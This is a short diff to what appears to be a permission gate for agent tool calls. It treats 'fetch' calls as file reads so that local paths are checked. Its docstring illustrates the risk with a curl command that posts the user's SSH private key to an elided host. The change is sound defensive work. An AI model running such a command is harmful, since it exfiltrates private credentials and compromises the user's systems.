@@ -23,8 +23,9 @@ from sandbox.commands.commandline import classify_tool_call
 
 WRITE_KINDS = frozenset({"edit", "delete", "move"})
 """The ACP tool kinds that change files (the scripted gate checks their paths)."""
-READ_KINDS = frozenset({"read", "search"})
-"""The ACP tool kinds that read files (the scripted gate checks their paths' read atoms)."""
+READ_KINDS = frozenset({"read", "search", "fetch"})
+"""The ACP tool kinds that read files (the scripted gate checks their paths' read atoms): a ``fetch`` that names a
+local file sends it (``curl -X POST ... -d @~/.ssh/id_rsa``; a fetch of a URL alone names none)."""
 
 
 def scripted_decision(
